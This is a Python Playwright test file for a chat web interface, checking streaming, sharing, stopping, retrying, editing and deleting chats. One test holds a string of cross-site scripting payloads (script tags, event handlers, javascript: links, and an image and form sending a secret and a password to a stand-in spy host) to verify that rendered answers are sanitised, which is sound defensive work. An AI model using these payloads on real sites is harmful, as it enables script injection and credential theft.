"""The chat page in a real browser: what everybody does with it."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.page.browser import Chat, tab

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext

    from tests.functions.test_standalone import Standalone

pytestmark = pytest.mark.timeout(240)

HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">

Text <svg onload="window.hacked = 3"></svg> and <iframe src="javascript:parent.hacked = 4"></iframe>.

[one](javascript:window.hacked=5) [two](data:text/html,<script>window.hacked=6</script>) [three](https://example.com/)

![spy](https://spy.example/?secret=1) <a href="https://example.com/" onclick="window.hacked = 7">raw</a>

<style>body { display: none }</style><form action="https://spy.example"><input name="password"></form>

```html
<script>window.hacked = 8</script>
```

$$\\href{javascript:window.hacked=9}{x} \\htmlStyle{position:fixed}{y}$$

last words"""


def test_an_answer_streams_in_and_tells_how_fast_it_was(chat: Chat) -> None:
    chat.ask("Tell me something")
    chat.answered()
    expect(chat.answers).to_have_text("t0 t1 t2 t3 t4 t5 t6 t7 t8 t9 t10 t11")
    figures = chat.page.locator(".figures")
    expect(figures).to_contain_text(re.compile(r"tokens/s.*first after \d+\.\d\d s.*12 tokens.*3 of \d+ cached"))
    expect(chat.row.get_by_role("link")).to_have_text("Tell me something")
    expect(chat.page).to_have_title("Tell me something · Chat")


@pytest.mark.slow
def test_a_chat_has_an_address_that_another_tab_can_open(
    chat: Chat, context: BrowserContext, service: Standalone
) -> None:
    chat.ask("A question to be found again")
    chat.answered()
    assert "#/chat/" in chat.page.url
    other = tab(context, service.url, chat.page.url.removeprefix(service.url + "/"))
    expect(other.questions).to_have_text("A question to be found again")
    expect(other.answers).to_contain_text("t11")
    other.ask("And another one")  # which the first tab hears of
    expect(chat.questions).to_have_count(2)
    expect(chat.answers).to_have_count(2)
    expect(chat.answers.last).to_contain_text("t11")


def test_what_is_stopped_stays_as_far_as_it_came_and_can_be_asked_anew(chat: Chat) -> None:
    chat.script(gap=0.05, tokens=2000)
    chat.ask("Something long")
    expect(chat.answers).to_contain_text("t3")
    chat.page.get_by_role("button", name="Stop").click()
    expect(chat.page.locator(".mark")).to_have_text("Stopped here.")
    chat.page.reload()
    expect(chat.page.locator(".mark")).to_have_text("Stopped here.")
    expect(chat.answers).to_contain_text("t3")
    chat.script(text="better words")
    chat.page.get_by_role("button", name="Regenerate").click()
    expect(chat.answers).to_have_text("better words")
    chat.page.reload()
    expect(chat.answers).to_have_text("better words")
    expect(chat.questions).to_have_count(1)


def test_nothing_of_a_hostile_answer_runs_or_leads_astray(chat: Chat) -> None:
    fetched: list[str] = []
    chat.page.on("request", lambda request: fetched.append(request.url))
    chat.script(text=HOSTILE)
    chat.ask("Show me what you have")
    chat.answered()
    expect(chat.answers).to_contain_text("last words")
    expect(chat.answers).to_contain_text("<script>window.hacked = 1</script>")  # as it was written
    answer = chat.answers
    for forbidden in ("script", "svg[onload]", "iframe", "form", "style", "input", "img", "[onclick]", "[onerror]"):
        expect(answer.locator(forbidden)).to_have_count(0)
    leads = answer.locator("a[href]").evaluate_all("links => links.map(link => [link.getAttribute('href'), link.rel])")
    safe = "noopener noreferrer nofollow"
    assert leads == [["https://example.com/", safe], ["https://spy.example/?secret=1", safe]]
    assert chat.page.evaluate("window.hacked") is None
    assert all(url.startswith(chat.url) for url in fetched), fetched


@pytest.mark.slow
def test_a_failed_answer_says_why_and_can_be_tried_again(chat: Chat) -> None:
    chat.script(error_after=0, error_status=400, error_body={"object": "error", "message": "no answer to that"})
    chat.ask("Will this work?")
    failure = chat.page.get_by_role("alert")
    expect(failure).to_contain_text("no answer to that")
    chat.page.reload()  # the service has forgotten the question, and the browser has not
    expect(failure).to_be_visible()
    expect(chat.questions).to_have_text("Will this work?")
    chat.script(text="yes")
    chat.page.get_by_role("button", name="Retry").click()
    expect(chat.answers).to_have_text("yes")
    expect(chat.questions).to_have_text("Will this work?")
    expect(failure).to_have_count(0)


@pytest.mark.slow
def test_an_earlier_message_in_other_words_begins_a_chat_of_its_own(chat: Chat) -> None:
    chat.ask("First question")
    chat.answered(1)
    chat.ask("Second question")
    chat.answered(2)
    before = chat.page.url
    chat.page.locator(".question").nth(1).hover()
    chat.page.get_by_role("button", name="Edit").nth(1).click()
    chat.page.get_by_role("textbox", name="Edit your message").fill("Another second question")
    chat.page.get_by_role("button", name="Send").first.click()
    expect(chat.questions).to_have_text(["First question", "Another second question"])
    chat.answered(2)
    assert chat.page.url != before
    chat.page.goto(before)
    expect(chat.questions).to_have_text(["First question", "Second question"])


@pytest.mark.slow
def test_a_deleted_chat_can_be_taken_back_and_a_draft_outlives_a_reload(chat: Chat) -> None:
    chat.ask("To be deleted, or not")
    chat.answered()
    chat.box.fill("half a thou")
    chat.row.get_by_role("button").click()
    chat.page.get_by_role("menuitem", name="Delete").click()
    expect(chat.page.get_by_role("link", name="To be deleted, or not")).to_have_count(0)
    chat.page.get_by_role("button", name="Undo").click()
    chat.page.get_by_role("link", name="To be deleted, or not").click()
    expect(chat.answers).to_contain_text("t11")
    chat.page.reload()
    expect(chat.box).to_have_value("half a thou")
